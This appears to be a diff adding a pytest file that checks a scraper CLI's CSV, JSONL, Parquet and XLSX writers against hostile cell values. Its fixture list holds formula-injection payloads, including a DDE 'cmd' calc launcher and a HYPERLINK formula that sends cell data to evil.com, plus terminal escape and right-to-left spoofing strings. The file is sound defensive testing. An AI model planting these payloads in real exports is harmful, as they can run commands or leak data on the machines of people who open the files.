@@ -1,0 +1,190 @@
+"""What goes into a file comes out of it again, and nothing in it can hurt whoever opens it."""
+
+import csv
+import io
+import json
+import sys
+import unicodedata
+from collections.abc import Mapping
+from datetime import UTC, datetime
+from typing import Any
+
+import openpyxl
+import pyarrow.parquet
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from scrapersky_cli.cli.writers import WRITERS, Style
+from scrapersky_cli.errors import SettingsError
+
+COLUMNS = {"name": str, "count": int, "share": float, "own": bool, "tags": list, "at": datetime}
+AT = datetime(2026, 4, 1, 6, 30, 15, tzinfo=UTC)
+HOSTILE = {
+    "a command": "=cmd|' /C calc'!A0",
+    "a formula": '=HYPERLINK("http://evil.com?"&A1)',
+    "a formula after blanks": "  =1+1",
+    "a formula after a tab": "\t=1+1",
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3",
+    "at": "@SUM(1+1)",
+    "wide": "＝1+1",
+    "an error": "#REF!",
+    "another separator": "a;=1+1",
+    "quotes": "He said \"=1\", then\nleft; '=2'",
+    "escape": "\x1b[2J\x1b]0;owned\x07red",
+    "c1": "\x9b31mred",
+    "markup": "[/b] [red]x[link=http://evil.com]y",
+    "nul": "a\x00b",
+    "right to left": "abc\u202egpj.exe\u2066x\u2069",
+    "line ends": "a\r\nb\u2028c\x85d",
+    "no character": "a\ufffeb\uffff",
+    "long": "x" * 40_000,
+    "long formula": "=" + "1" * 40_000,
+    "backslash": "C:\\temp\\",
+    "words": "Müller & Söhne 北京 🦷",
+}
+
+
+def row(name: str | None) -> dict[str, Any]:
+    return {"name": name, "count": -3, "share": -97.75, "own": True, "tags": [name, "b"] if name else None, "at": AT}
+
+
+def written(format_: str, *names: str | None, style: Style | None = None) -> bytes:
+    file = io.BytesIO()
+    with WRITERS[format_](file, COLUMNS, style or Style()) as write:
+        write([row(name) for name in names])
+        write([])
+    return file.getvalue()
+
+
+def cells(body: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(body.decode(), newline="")))
+
+
+def is_harmless(text: str) -> bool:
+    """No control character, nothing that turns the direction of text."""
+    return all(unicodedata.category(char) not in ("Cc", "Cs") for char in text) and not set(text) & set("\u202e\u2066")
+
+
+@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
+@pytest.mark.parametrize("style", [Style(), Style(excel=True)], ids=["csv", "excel"])
+def test_csv_is_text_and_nothing_else(name: str, style: Style) -> None:
+    body = written("csv", name, "next", style=style)
+    text = body.decode("utf-8-sig")
+    assert is_harmless(text.replace("\r\n", "").replace("\n", ""))
+    head, first, second = csv.reader(io.StringIO(text, newline=""))
+    assert (head, second[0]) == (list(COLUMNS), "next")
+    for cell in (first[0], first[4]):
+        assert not cell.lstrip().startswith(tuple("=+-@＝＋－＠")), cell
+    assert first[1:4] == ["-3", "-97.75", "true"]
+    assert text.count("\n") == 3
+    for separator in (";", "\t"):  # where another one is the usual, a cell must not fall apart into a formula
+        for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+            assert not any(cell.lstrip().startswith(tuple("=@")) for cell in line), line
+
+
+def test_csv_gives_words_back_as_they_are() -> None:
+    body = written("csv", 'Müller, "Söhne" & Co; 北京', None, "")
+    assert cells(body)[1:] == [
+        ['Müller, "Söhne" & Co; 北京', "-3", "-97.75", "true", 'Müller, "Söhne" & Co; 北京; b', "2026-04-01T06:30:15Z"],
+        ["", "-3", "-97.75", "true", "", "2026-04-01T06:30:15Z"],
+        ["", "-3", "-97.75", "true", "", "2026-04-01T06:30:15Z"],
+    ]
+
+
+def test_phones_stay_phones_except_where_excel_would_calculate_them() -> None:
+    assert cells(written("csv", "+15125550100"))[1][0] == "+15125550100"
+    assert cells(written("csv", "+15125550100; +15125550101"))[1][0] == "+15125550100; +15125550101"
+    assert cells(written("csv", "+1512555010x"))[1][0] == "'+1512555010x"
+    assert cells(written("csv", "+15125550100", style=Style(excel=True)))[1][0] == "'+15125550100"
+    assert cells(written("csv", "=1+1", style=Style(guard=False)))[1][0] == "=1+1"
+
+
+def test_excel_gets_a_byte_order_mark_and_crlf() -> None:
+    body = written("csv", "a", "b", style=Style(excel=True))
+    assert body.startswith(b"\xef\xbb\xbfname,")
+    assert body.count(b"\r\n") == body.count(b"\n") == 3
+
+
+@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
+def test_json_lines_give_the_value_and_control_nothing(name: str) -> None:
+    body = written("jsonl", name).decode()
+    assert json.loads(body) == {**row(name), "at": "2026-04-01T06:30:15Z"}
+    assert body.count("\n") == 1
+    assert is_harmless(body.removesuffix("\n"))
+
+
+@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
+def test_parquet_gives_the_value(name: str) -> None:
+    table = pyarrow.parquet.read_table(io.BytesIO(written("parquet", name, None)))
+    assert table.to_pylist() == [row(name), row(None)]
+    types = [str(type_) for type_ in table.schema.types]
+    assert types == ["string", "int64", "double", "bool", "list<element: string>", "timestamp[us, tz=UTC]"]
+
+
+@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
+def test_xlsx_is_text_and_nothing_else(name: str) -> None:
+    sheet = openpyxl.load_workbook(io.BytesIO(written("xlsx", name, "next"))).worksheets[0]
+    head, first, second = sheet.iter_rows()
+    assert [cell.value for cell in head] == list(COLUMNS)
+    assert second[0].value == "next"
+    assert [cell.data_type for cell in first] == ["s", "n", "n", "b", "s", "d"]
+    assert [cell.value for cell in first[1:4]] == [-3, -97.75, True]
+    assert first[5].value == AT.replace(tzinfo=None)
+    value = str(first[0].value)
+    assert is_harmless(value)
+    if len(name) > 32_767:
+        assert (len(value), value[:30_000], value[-6:]) == (32_767, name[:30_000], "…[cut]")
+    elif is_harmless(name) and not set(name) & set("\ufffe\uffff"):
+        assert value == name
+
+
+def test_a_sheet_that_is_full_is_followed_by_another(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("scrapersky_cli.cli.writers._SHEET_ROWS", 3)
+    book = openpyxl.load_workbook(io.BytesIO(written("xlsx", "a", "b", "c")))
+    assert [[line[0] for line in sheet.iter_rows(values_only=True)] for sheet in book] == [
+        ["name", "a", "b"],
+        ["name", "c"],
+    ]
+
+
+@pytest.mark.parametrize("format_", WRITERS)
+def test_an_export_without_rows_is_a_file_too(format_: str) -> None:
+    body = written(format_)
+    if format_ == "csv":
+        assert cells(body) == [list(COLUMNS)]
+    elif format_ == "xlsx":
+        assert list(openpyxl.load_workbook(io.BytesIO(body)).worksheets[0].values) == [tuple(COLUMNS)]
+    elif format_ == "parquet":
+        assert pyarrow.parquet.read_table(io.BytesIO(body)).num_rows == 0
+    else:
+        assert body == b""
+
+
+@pytest.mark.parametrize(("format_", "package"), [("xlsx", "openpyxl"), ("parquet", "pyarrow")])
+def test_a_missing_package_is_named_with_its_extra(format_: str, package: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(sys.modules, package, None)
+    with pytest.raises(SettingsError) as caught:
+        written(format_)
+    assert caught.value.hint == f"run: pip install 'scrapersky[{format_}]'"
+
+
+_texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=50)
+
+
+@settings(max_examples=150, deadline=None)
+@given(_texts)
+def test_any_text_survives_every_format(text: str) -> None:
+    def as_dict(line: Mapping[str, Any]) -> Any:
+        return line["name"]
+
+    assert as_dict(json.loads(written("jsonl", text))) == text
+    assert as_dict(pyarrow.parquet.read_table(io.BytesIO(written("parquet", text))).to_pylist()[0]) == text
+    lines = cells(written("csv", text, "next"))
+    assert (len(lines), lines[2][0]) == (3, "next")
+    assert not lines[1][0].strip().startswith(("=", "@"))
+    book = openpyxl.load_workbook(io.BytesIO(written("xlsx", text, "next")))
+    first, second = list(book.worksheets[0].iter_rows(min_row=2))
+    assert first[0].data_type in {"s", "inlineStr"} or first[0].value is None
+    assert second[0].value == "next"
